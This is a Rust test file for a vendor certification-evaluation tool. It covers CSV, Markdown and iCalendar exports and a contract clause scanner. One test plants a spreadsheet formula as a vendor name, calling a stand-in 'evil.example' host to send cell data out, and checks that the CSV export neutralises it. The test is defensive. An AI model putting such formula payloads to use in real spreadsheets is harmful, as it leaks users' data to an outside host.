use super::calendar::{escape_text, fold_line};
use super::matrix::{md_cell, neutralise_formula, BOM};
use super::*;
use crate::domain::evaluation::{Answer, ContractItem, Evaluation};
use crate::policy::evaluate;
use proptest::prelude::*;
use time::macros::date;

const EXAMPLE: &str = include_str!("../../examples/evaluation.json");
const SAMPLE_MSA: &str = include_str!("../../tests/fixtures/contracts/sample-msa.txt");

fn example() -> Evaluation {
    Evaluation::from_json(EXAMPLE).expect("the example parses")
}

fn report_of(e: &Evaluation) -> crate::policy::Report {
    evaluate(e, e.evaluation_date.unwrap_or(date!(2026 - 11 - 23)))
}

// ---------------------------------------------------------------- matrix

#[test]
fn matrix_has_a_row_per_candidate_and_a_column_per_requirement() {
    let e = example();
    let r = report_of(&e);
    let m = decision_matrix(&r);
    assert_eq!(m.rows.len(), e.candidates.len());
    assert!(m
        .header
        .iter()
        .any(|h| h.starts_with("model layer: ISO/IEC 27001")));
    assert!(m.header.iter().any(|h| h.starts_with("platform layer:")));
    for (row, c) in m.rows.iter().zip(&r.candidates) {
        assert_eq!(row.len(), m.header.len());
        assert_eq!(row[1], c.candidate.as_str());
        assert_eq!(row[2], c.verdict.label());
        for cell in &c.matrix {
            let col = m
                .header
                .iter()
                .position(|h| {
                    h.starts_with(&format!("{} layer: {}", cell.layer.id(), cell.requirement))
                })
                .expect("column");
            assert_eq!(row[col], cell.status.id());
        }
    }
    // A direct candidate has no platform layer: n/a.
    let direct = r.candidates.iter().position(|c| {
        c.matrix
            .iter()
            .all(|x| x.layer != crate::domain::Layer::Platform)
    });
    if let Some(i) = direct {
        let col = m
            .header
            .iter()
            .position(|h| h.starts_with("platform layer:"))
            .unwrap_or(0);
        assert_eq!(m.rows[i][col], "n/a");
    }
}

#[test]
fn csv_has_bom_crlf_and_parses_back() {
    let mut e = example();
    e.candidates[0].name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".into();
    e.candidates[1].name = "Vendor, \"quoted\"\nsecond line".into();
    let r = report_of(&e);
    let m = decision_matrix(&r);
    let csv_text = m.to_csv();
    assert!(csv_text.starts_with(BOM), "UTF-8 BOM first");
    assert!(csv_text.contains("\r\n"));
    let body = csv_text.trim_start_matches(BOM);
    let mut rd = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(body.as_bytes());
    let header: Vec<String> = rd.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, m.header);
    let rows: Vec<Vec<String>> = rd
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(
        rows[0][0],
        format!("'{}", e.candidates[0].name),
        "formula neutralised"
    );
    assert_eq!(
        rows[1][0], e.candidates[1].name,
        "quotes, comma, newline survive"
    );
    assert_eq!(rows[0][2], r.candidates[0].verdict.label());
    // No cell of the file starts with a formula character.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
}

#[test]
fn formula_characters_are_neutralised() {
    for bad in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
        assert_eq!(neutralise_formula(bad), format!("'{bad}"));
    }
    for ok in ["", "a=b", "Claude", "'quoted", " =x"] {
        assert_eq!(neutralise_formula(ok), ok);
    }
}

#[test]
fn markdown_escapes_pipes_newlines_and_html() {
    assert_eq!(md_cell("a|b"), "a\\|b");
    assert_eq!(md_cell("a\nb\r\nc"), "a<br>b<br>c");
    assert_eq!(md_cell("<script>&"), "&lt;script&gt;&amp;");
    assert_eq!(md_cell("back\\|slash"), "back\\\\\\|slash");
    let mut e = example();
    e.candidates[0].name = "Pipe | vendor\nline two".into();
    let r = report_of(&e);
    let md = decision_matrix(&r).to_markdown(&r, &e.workload.name);
    let table: Vec<&str> = md.lines().filter(|l| l.starts_with('|')).collect();
    assert_eq!(table.len(), 2 + e.candidates.len());
    // Every table line has the same number of unescaped pipes.
    let pipes = |l: &str| {
        let b = l.as_bytes();
        (0..b.len())
            .filter(|&i| b[i] == b'|' && (i == 0 || b[i - 1] != b'\\'))
            .count()
    };
    let n = pipes(table[0]);
    assert!(table.iter().all(|l| pipes(l) == n), "{md}");
    assert!(md.contains("Pipe \\| vendor<br>line two"));
}

#[test]
fn json_export_is_the_cli_report() {
    let e = example();
    let r = report_of(&e);
    assert_eq!(report_json(&r), r.to_json_pretty());
    let v: serde_json::Value = serde_json::from_str(&report_json(&r)).unwrap();
    assert_eq!(
        v["candidates"].as_array().map(Vec::len),
        Some(e.candidates.len())
    );
}

// ---------------------------------------------------------------- calendar

#[test]
fn calendar_dates_follow_the_policy() {
    let e = example();
    let d = e.evaluation_date.unwrap();
    let ev = events(&e, d);
    assert!(ev.windows(2).all(|w| w[0].date <= w[1].date), "sorted");
    let find = |kind, rec: &str| {
        ev.iter()
            .find(|x| x.kind == kind && x.record.as_deref() == Some(rec))
            .unwrap_or_else(|| panic!("{kind:?} {rec}"))
    };
    // Expiry on the expiry date.
    assert_eq!(
        find(EventKind::CertExpiry, "anthropic-27001").date,
        date!(2027 - 01 - 07)
    );
    // Surveillance: issue 2025-12-15 (no later audit) + 12 months.
    let s = find(EventKind::SurveillanceDue, "anthropic-27001");
    assert_eq!(s.date, date!(2026 - 12 - 15));
    // SOC 2 period end 2026-06-30: stale from 2027-07-01.
    assert_eq!(
        find(EventKind::Soc2Stale, "anthropic-soc2").date,
        date!(2027 - 07 - 01)
    );
    // Re-verification: the earliest last_verified (2026-10-02) + 90 days.
    let rv = ev
        .iter()
        .find(|x| x.kind == EventKind::Reverify && x.candidate == "claude-on-bedrock")
        .unwrap();
    assert_eq!(rv.date, date!(2026 - 12 - 31));
    assert!(!rv.overdue);
    // Contract end.
    assert!(ev
        .iter()
        .any(|x| x.kind == EventKind::ContractEnd && x.date == date!(2029 - 06 - 30)));
}

#[test]
fn overdue_reverification_is_due_on_the_evaluation_date() {
    let e = example();
    let late = date!(2027 - 06 - 01);
    let ev = events(&e, late);
    let rv = ev.iter().find(|x| x.kind == EventKind::Reverify).unwrap();
    assert_eq!(rv.date, late);
    assert!(rv.overdue);
    assert!(rv.why.contains("overdue since"));
}

#[test]
fn surveillance_after_expiry_is_not_listed_and_none_recorded_is_due_now() {
    let mut e = example();
    let d = e.evaluation_date.unwrap();
    let r = &mut e.candidates[0].records[0];
    r.issue_date = Some(date!(2025 - 01 - 01));
    r.expiry_date = Some(date!(2025 - 12 - 01));
    r.last_surveillance_audit = None;
    let id = r.id.clone();
    let ev = events(&e, d);
    assert!(!ev
        .iter()
        .any(|x| x.kind == EventKind::SurveillanceDue && x.record.as_deref() == Some(&id)));
    e.candidates[0].records[0].issue_date = None;
    e.candidates[0].records[0].expiry_date = None;
    let ev = events(&e, d);
    let s = ev
        .iter()
        .find(|x| x.kind == EventKind::SurveillanceDue && x.record.as_deref() == Some(&id))
        .unwrap();
    assert_eq!(s.date, d);
}

/// The events of an iCalendar file exported on `stamp` (`YYYYMMDD`): two
/// reminders on each future date, none on a date already past.
fn ics_events(ics: &str, stamp: &str) -> Vec<(String, String, String, String)> {
    let unfolded = icalendar::parser::unfold(ics);
    let cal = icalendar::parser::read_calendar(&unfolded).expect("valid iCalendar");
    assert!(cal
        .properties
        .iter()
        .any(|p| p.name == "VERSION" && p.val == "2.0"));
    assert!(cal.properties.iter().any(|p| p.name == "PRODID"));
    cal.components
        .iter()
        .filter(|c| c.name == "VEVENT")
        .map(|c| {
            let get = |n: &str| {
                c.find_prop(n)
                    .map(|p| p.val.as_str().to_string())
                    .unwrap_or_default()
            };
            let alarms = c.components.iter().filter(|a| a.name == "VALARM").count();
            let past = get("DTSTART").as_str() < stamp;
            assert_eq!(alarms, if past { 0 } else { 2 }, "{}", get("SUMMARY"));
            (
                get("UID"),
                get("DTSTART"),
                get("SUMMARY"),
                get("DESCRIPTION"),
            )
        })
        .collect()
}

fn ics_stamp(d: time::Date) -> String {
    crate::domain::format_date(d).replace('-', "")
}

#[test]
fn ics_parses_with_stable_uids_across_renewals() {
    let mut e = example();
    let d = e.evaluation_date.unwrap();
    let ics1 = to_ics(&events(&e, d), &e.workload.name, d);
    let first = ics_events(&ics1, &ics_stamp(d));
    assert_eq!(first.len(), events(&e, d).len());
    assert!(ics1.contains("DTSTART;VALUE=DATE:20270107"));
    assert!(ics1.contains("DTEND;VALUE=DATE:20270108"));
    assert!(ics1.contains("TRIGGER:-P14D") && ics1.contains("TRIGGER:-P1D"));
    // Renewal: new dates, same UIDs.
    for r in &mut e.candidates[0].records {
        if r.expiry_date.is_some() {
            r.expiry_date = Some(date!(2030 - 01 - 07));
            r.issue_date = Some(date!(2027 - 01 - 08));
        }
    }
    let ics2 = to_ics(&events(&e, d), &e.workload.name, d);
    let second = ics_events(&ics2, &ics_stamp(d));
    let uids = |v: &[(String, String, String, String)]| {
        let mut u: Vec<String> = v.iter().map(|x| x.0.clone()).collect();
        u.sort();
        u
    };
    assert_eq!(uids(&first), uids(&second));
    let mut all = uids(&first);
    all.dedup();
    assert_eq!(all.len(), first.len(), "UIDs are unique");
    let date_of = |v: &[(String, String, String, String)], uid: &str| {
        v.iter().find(|x| x.0 == uid).map(|x| x.1.clone())
    };
    let changed = first
        .iter()
        .filter(|x| date_of(&second, &x.0) != Some(x.1.clone()))
        .count();
    assert!(changed > 0, "the renewal moved some dates");
}

#[test]
fn ics_lines_are_crlf_folded_at_75_octets_and_utf8_safe() {
    let mut e = example();
    e.candidates[0].name = "Ünïcødé vendor 日本語のベンダー名前がとても長いです ".repeat(6)
        + "; with, commas\\ and\nnewlines";
    let d = e.evaluation_date.unwrap();
    let ics = to_ics(&events(&e, d), "Calendar; name, with\\ specials", d);
    assert!(ics.ends_with("\r\n"));
    for line in ics.split("\r\n") {
        assert!(line.len() <= 75, "{} octets: {line:?}", line.len());
        assert!(!line.contains('\n') && !line.contains('\r'));
    }
    assert!(!ics.replace("\r\n", "").contains('\n'), "no bare LF");
    // Round trip: the parser unfolds and unescapes back to the original.
    let parsed = ics_events(&ics, &ics_stamp(d));
    let title = events(&e, d)
        .iter()
        .find(|x| x.candidate == e.candidates[0].id)
        .map(CalendarEvent::title)
        .unwrap();
    assert!(
        parsed.iter().any(|x| x.2 == title),
        "summary round-trips: {title:?}"
    );
}

#[test]
fn text_escaping_and_folding() {
    assert_eq!(escape_text("a\\b;c,d\ne\r\nf"), "a\\\\b\\;c\\,d\\ne\\nf");
    let mut out = String::new();
    fold_line(&mut out, &"é".repeat(100));
    for l in out.split("\r\n").filter(|l| !l.is_empty()) {
        assert!(l.len() <= 75);
    }
    assert_eq!(out.replace("\r\n ", "").trim_end(), "é".repeat(100));
    let mut short = String::new();
    fold_line(&mut short, "SUMMARY:x");
    assert_eq!(short, "SUMMARY:x\r\n");
}

proptest! {
    #[test]
    fn folding_never_breaks_a_char(s in "\\PC{0,300}") {
        let mut out = String::new();
        fold_line(&mut out, &s);
        for l in out.split("\r\n") {
            prop_assert!(l.len() <= 75);
        }
        prop_assert_eq!(out.strip_suffix("\r\n").unwrap_or(&out).replace("\r\n ", ""), s);
    }
}

// ---------------------------------------------------------------- summaries

#[test]
fn summaries_carry_verdict_evidence_contract_and_dates() {
    let e = example();
    let r = report_of(&e);
    let ev = events(&e, r.evaluation_date);
    let s = vendor_summaries(&e, &r, &ev);
    assert_eq!(s.len(), e.candidates.len());
    for (v, (c, cr)) in s.iter().zip(e.candidates.iter().zip(&r.candidates)) {
        assert_eq!(v.candidate, c.id);
        assert_eq!(v.verdict, cr.verdict);
        assert_eq!(v.findings.len(), cr.findings.len());
        assert_eq!(v.contract.len(), 8);
        let n: usize = v.layers.iter().map(|(_, r)| r.len()).sum();
        assert_eq!(n, c.records.len());
        assert!(v
            .dates
            .iter()
            .all(|d| d.candidate == c.id || d.candidate.is_empty()));
    }
    let hosted = &s[0];
    assert!(hosted.reached.contains(" on "), "{}", hosted.reached);
    let rec = hosted
        .layers
        .iter()
        .flat_map(|(_, r)| r)
        .find(|r| r.id == "anthropic-27001")
        .unwrap();
    assert_eq!(rec.standard, "ISO/IEC 27001:2022");
    assert_eq!(rec.edition, Some(2022));
    assert_eq!(rec.expiry_date, "2027-01-07");
    assert!(!rec.certification_body.is_empty());
}

/// A page never leaves out a failure or a warning: whatever the room, every
/// fail and warn is listed, information findings fill the rest, and what is
/// left out is counted exactly, by rule.
#[test]
fn a_vendor_page_lists_every_fail_and_warn_and_counts_what_it_leaves_out() {
    let mut e = example();
    // Many findings on one candidate: copies of a record, each with a defect.
    let base = e.candidates[0].records[0].clone();
    for (i, year) in (2019..2026).enumerate() {
        let mut r = base.clone();
        r.id = format!("extra-{i}");
        r.expiry_date = Some(time::Date::from_calendar_date(year, time::Month::March, 1).unwrap());
        r.last_verified = None;
        e.candidates[0].records.push(r);
    }
    let r = report_of(&e);
    let findings = &r.candidates[0].findings;
    let severe = findings
        .iter()
        .filter(|f| f.severity != crate::policy::Severity::Info)
        .count();
    let info = findings.len() - severe;
    assert!(
        severe > summary::PAGE_FINDINGS,
        "{severe} failures and warnings"
    );
    assert!(info > 0, "some information findings");
    for room in 0..findings.len() + 3 {
        let page = summary::page_findings(findings, room);
        // Every failure and warning, in the report's order, first.
        let listed_severe: Vec<_> = page
            .listed
            .iter()
            .filter(|f| f.severity != crate::policy::Severity::Info)
            .collect();
        assert_eq!(listed_severe.len(), severe, "room {room}");
        assert!(page.listed[..severe]
            .iter()
            .all(|f| f.severity != crate::policy::Severity::Info));
        // Information fills the room left, and the rest is counted.
        let shown_info = room.saturating_sub(severe).min(info);
        assert_eq!(page.listed.len(), severe + shown_info, "room {room}");
        assert_eq!(page.left_out_count(), info - shown_info, "room {room}");
        // What is left out is information only, counted per rule exactly.
        let is_info = |f: &&crate::policy::Finding| f.severity == crate::policy::Severity::Info;
        for (rule, n) in &page.left_out {
            let of_rule = |f: &&crate::policy::Finding| f.rule.to_string() == *rule;
            let info_of_rule = findings.iter().filter(is_info).filter(of_rule).count();
            let listed_info = page
                .listed
                .iter()
                .copied()
                .filter(is_info)
                .filter(of_rule)
                .count();
            assert!(*n > 0);
            assert_eq!(info_of_rule - listed_info, *n, "{rule}");
        }
    }
    // With room for all, nothing is left out.
    assert!(summary::page_findings(findings, findings.len())
        .left_out
        .is_empty());
}

// ---------------------------------------------------------------- scanner

fn proposal(r: &ScanResult, item: ContractItem) -> &Proposal {
    r.proposal(item).expect("one proposal per item")
}

fn quoted<'a>(text: &'a str, p: &Proposal) -> &'a str {
    let pass = p
        .passage
        .as_ref()
        .unwrap_or_else(|| panic!("{:?} has a passage", p.item));
    text.get(pass.offset..pass.end)
        .expect("offsets on char boundaries")
}

#[test]
fn sample_contract_every_item_found_with_its_passage() {
    let r = scan_contract(SAMPLE_MSA);
    assert_eq!(r.proposals.len(), 8);
    let yes = |item, needle: &str| {
        let p = proposal(&r, item);
        assert_eq!(p.answer, Answer::Yes, "{item:?}: {}", p.why);
        let q = quoted(SAMPLE_MSA, p);
        assert!(q.contains(needle), "{item:?} quoted {q:?}");
    };
    yes(
        ContractItem::CertsNamed,
        "ISO/IEC 27001:2022, ISO/IEC 27017:2015",
    );
    yes(
        ContractItem::MaintainForTerm,
        "for the entire term of this Agreement",
    );
    yes(
        ContractItem::AnnualSurveillance,
        "annual surveillance audit",
    );
    yes(
        ContractItem::LapseNotice,
        "suspended, withdrawn, not renewed or reduced in scope",
    );
    yes(
        ContractItem::TerminationRight,
        "without penalty or early termination fee",
    );
    yes(ContractItem::ZdrWindow, "up to thirty (30) days");
    yes(
        ContractItem::SubprocessorNotice,
        "at least thirty (30) days’ prior written notice",
    );
    assert!(
        quoted(SAMPLE_MSA, proposal(&r, ContractItem::SubprocessorNotice)).contains("may object")
    );
    assert!(proposal(&r, ContractItem::ZdrWindow)
        .why
        .contains("order form"));
    // Vague wording: the item is no, with each phrase quoted.
    let v = proposal(&r, ContractItem::NoIndustryStandardWording);
    assert_eq!(v.answer, Answer::No);
    let phrases: Vec<&str> = r.vague.iter().map(|h| h.phrase).collect();
    assert!(phrases.contains(&"industry standard"), "{phrases:?}");
    assert!(phrases.contains(&"commercially reasonable"));
    assert!(phrases.contains(&"reasonable and appropriate"));
    for h in &r.vague {
        let q = SAMPLE_MSA.get(h.passage.offset..h.passage.end).unwrap();
        assert!(
            crate::policy::normalise(q).contains(&format!(" {} ", h.phrase)),
            "{q:?}"
        );
    }
    assert!(proposal(&r, ContractItem::CertsNamed)
        .note()
        .starts_with("contract scan: \""));
}

#[test]
fn contract_missing_items_gives_unknown_or_no() {
    let text = "MASTER AGREEMENT\n\nVendor holds an ISO/IEC 27001 certification. \
        Vendor will notify Customer within sixty (60) days if its certification is withdrawn. \
        Vendor will inform Customer of new sub-processors with ten (10) days' notice. \
        Security follows industry-standard compliance programmes.";
    let r = scan_contract(text);
    let a = |item| proposal(&r, item).answer;
    assert_eq!(
        a(ContractItem::CertsNamed),
        Answer::Unknown,
        "only 27001 named"
    );
    assert_eq!(a(ContractItem::MaintainForTerm), Answer::Unknown);
    assert!(proposal(&r, ContractItem::MaintainForTerm)
        .passage
        .is_none());
    assert_eq!(a(ContractItem::AnnualSurveillance), Answer::Unknown);
    assert_eq!(
        a(ContractItem::LapseNotice),
        Answer::No,
        "60 days is too long"
    );
    assert_eq!(a(ContractItem::TerminationRight), Answer::Unknown);
    assert_eq!(a(ContractItem::ZdrWindow), Answer::Unknown);
    assert_eq!(
        a(ContractItem::SubprocessorNotice),
        Answer::No,
        "10 days is too short"
    );
    assert_eq!(a(ContractItem::NoIndustryStandardWording), Answer::No);
    assert_eq!(r.vague[0].phrase, "industry standard");
}

#[test]
fn clean_contract_without_vague_wording_is_yes_and_empty_text_is_unknown() {
    let r = scan_contract("Vendor shall maintain its ISO/IEC 27001 certification for the term.");
    assert_eq!(
        proposal(&r, ContractItem::NoIndustryStandardWording).answer,
        Answer::Yes
    );
    assert_eq!(
        proposal(&r, ContractItem::MaintainForTerm).answer,
        Answer::Yes
    );
    let empty = scan_contract("");
    assert!(empty.proposals.iter().all(|p| p.answer == Answer::Unknown));
    assert_eq!(empty.sentences, 0);
}

#[test]
fn negated_commitment_is_no() {
    let r = scan_contract("Vendor does not commit to maintain any certification during the term.");
    assert_eq!(
        proposal(&r, ContractItem::MaintainForTerm).answer,
        Answer::No
    );
}

#[test]
fn multibyte_text_offsets_are_on_char_boundaries() {
    let text = "Préambule — «données» 日本語。\n\nLe fournisseur «Vendor» shall maintain its ISO/IEC 27001 certification for the term 🚀. \
        Zero Data Retention: données supprimées après 30 jours; retained for 30 days.";
    let r = scan_contract(text);
    for p in &r.proposals {
        if let Some(pass) = &p.passage {
            assert!(text.is_char_boundary(pass.offset) && text.is_char_boundary(pass.end));
            assert!(text.get(pass.offset..pass.end).is_some());
        }
    }
    assert_eq!(
        proposal(&r, ContractItem::MaintainForTerm).answer,
        Answer::Yes
    );
    assert!(quoted(text, proposal(&r, ContractItem::MaintainForTerm)).contains("🚀"));
}

#[test]
fn large_paste_is_scanned_in_linear_time() {
    // ~500k characters: the sample repeated.
    let mut big = String::new();
    while big.len() < 500_000 {
        big.push_str(SAMPLE_MSA);
    }
    let start = std::time::Instant::now();
    let r = scan_contract(&big);
    let took = start.elapsed();
    assert_eq!(proposal(&r, ContractItem::LapseNotice).answer, Answer::Yes);
    assert!(r.vague.len() <= scanner::MAX_VAGUE);
    assert!(r.vague_total > r.vague.len());
    // Generous even for a debug build on a busy machine.
    assert!(took.as_secs() < 10, "{took:?}");
    // One line without any break at all.
    let one = "x".repeat(500_000);
    let r = scan_contract(&one);
    assert!(r.sentences >= 1);
}

#[test]
fn shorten_cuts_on_char_boundaries() {
    assert_eq!(shorten("  a   b  ", 10), "a b");
    assert_eq!(shorten("ééééé", 3), "ééé…");
    assert_eq!(shorten("abc def", 3), "abc…");
    assert_eq!(
        file_name("decision-matrix", date!(2026 - 11 - 23), "csv"),
        "scopewise-decision-matrix-2026-11-23.csv"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]
    #[test]
    fn scanner_never_panics_and_offsets_are_valid(s in "\\PC{0,400}|[a-z0-9 .;\n(),’é日-]{0,400}") {
        let r = scan_contract(&s);
        prop_assert_eq!(r.proposals.len(), 8);
        for p in &r.proposals {
            if let Some(pass) = &p.passage {
                prop_assert!(pass.offset <= pass.end && pass.end <= s.len());
                prop_assert!(s.is_char_boundary(pass.offset) && s.is_char_boundary(pass.end));
            }
        }
        for h in &r.vague {
            prop_assert!(s.get(h.passage.offset..h.passage.end).is_some());
        }
    }

    #[test]
    fn scanner_finds_clauses_inside_noise(pre in "[a-zA-Z ,é日]{0,200}", post in "[a-zA-Z ,é日]{0,200}") {
        let text = format!("{pre}. Vendor will notify Customer within 30 days if a certification is suspended. {post}");
        let r = scan_contract(&text);
        prop_assert_eq!(r.proposal(ContractItem::LapseNotice).map(|p| p.answer), Some(Answer::Yes));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(100))]
    #[test]
    fn csv_round_trips_any_cells(cells in proptest::collection::vec("\\PC{0,40}|[\"=,+\r\n\t@-]{0,6}", 1..6)) {
        let m = DecisionMatrix { header: vec!["h".into(); cells.len()], rows: vec![cells.clone()] };
        let text = m.to_csv();
        let body = text.strip_prefix(BOM).unwrap_or(&text);
        let mut rd = csv::ReaderBuilder::new().has_headers(true).flexible(false).from_reader(body.as_bytes());
        let rows: Vec<Vec<String>> = rd.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
        prop_assert_eq!(rows.len(), 1);
        let want: Vec<String> = cells.iter().map(|c| neutralise_formula(c)).collect();
        prop_assert_eq!(&rows[0], &want);
    }
}

/// A calendar exported before the product's rename must update its events
/// when exported again: the UIDs are pinned, suffix and all.
#[test]
fn calendar_uids_are_those_exported_before_the_rename() {
    let e = example();
    let d = e.evaluation_date.unwrap();
    let mut uids: Vec<String> = events(&e, d).iter().map(|ev| ev.uid()).collect();
    uids.sort();
    assert_eq!(uids, PINNED_UIDS, "{uids:#?}");
}

const PINNED_UIDS: &[&str] = &[
    "0423428e1c386973-cert-expiry@certcheck",
    "174cee9cd70cb200-surveillance-due@certcheck",
    "23b2b8ec78ffddb4-cert-expiry@certcheck",
    "2e3a6a8c19d017cb-cert-expiry@certcheck",
    "370215553a554863-surveillance-due@certcheck",
    "4a007b089a3071de-surveillance-due@certcheck",
    "4bfd7c14534de4ae-ai-timeline-target@certcheck",
    "4e70e4b1fba9d1a8-surveillance-due@certcheck",
    "4f28b6660c7f7682-surveillance-due@certcheck",
    "4f41dd862367d2eb-surveillance-due@certcheck",
    "52f51abd0802a3b9-surveillance-due@certcheck",
    "5ebd0ef463ba1e11-surveillance-due@certcheck",
    "5f8f70fd3e0b04c9-surveillance-due@certcheck",
    "6109ba15a250b19a-reverify@certcheck",
    "63938a01ba6a6512-cert-expiry@certcheck",
    "6405bb6414b89a6a-surveillance-due@certcheck",
    "64820b607e3d4180-surveillance-due@certcheck",
    "6c6484b431232d9a-cert-expiry@certcheck",
    "745619ede3341343-cert-expiry@certcheck",
    "84373218e185d7e3-surveillance-due@certcheck",
    "93a08b1713c35aae-cert-expiry@certcheck",
    "94fde5546d4c709c-soc2-stale@certcheck",
    "9af72aff0cbc3d69-cert-expiry@certcheck",
    "9dd79abbe27eab6c-cert-expiry@certcheck",
    "c07ca56ad5998dd1-cert-expiry@certcheck",
    "cc2e5d18dc6d3461-reverify@certcheck",
    "cff55e4e1eb73165-contract-end@certcheck",
    "e1d6e685474a64ed-soc2-stale@certcheck",
    "ecc4dd3744c5b2e9-cert-expiry@certcheck",
    "efa54cf41a8820ec-cert-expiry@certcheck",
];

#[test]
fn calendar_entries_say_candidate_layer_holder_and_standard_and_no_past_reminders() {
    let e = example();
    let d = e.evaluation_date.unwrap();
    let evs = events(&e, d);
    let expiry = evs
        .iter()
        .find(|ev| ev.kind == EventKind::CertExpiry && ev.candidate == "claude-on-bedrock")
        .unwrap();
    let title = expiry.title();
    assert!(
        title.starts_with("Certificate expires: Claude on Amazon Bedrock"),
        "{title}"
    );
    assert!(
        title.contains(" · model layer · Anthropic, PBC · ISO/IEC 27001:2022"),
        "{title}"
    );
    for ev in &evs {
        assert!(!ev.why.contains('`'), "{}", ev.why);
        for rule in crate::policy::RULES.iter() {
            assert!(!ev.why.contains(rule.id), "{}", ev.why);
        }
    }
    // Exported after a date has passed: no reminder on it.
    let later = time::macros::date!(2027 - 06 - 01);
    let ics = to_ics(&evs, "x", later);
    let parsed = ics_events(&ics, &ics_stamp(later));
    assert!(parsed.iter().any(|e| e.1.as_str() < "20270601"));
    assert!(!ics.contains("Rule: "));
}
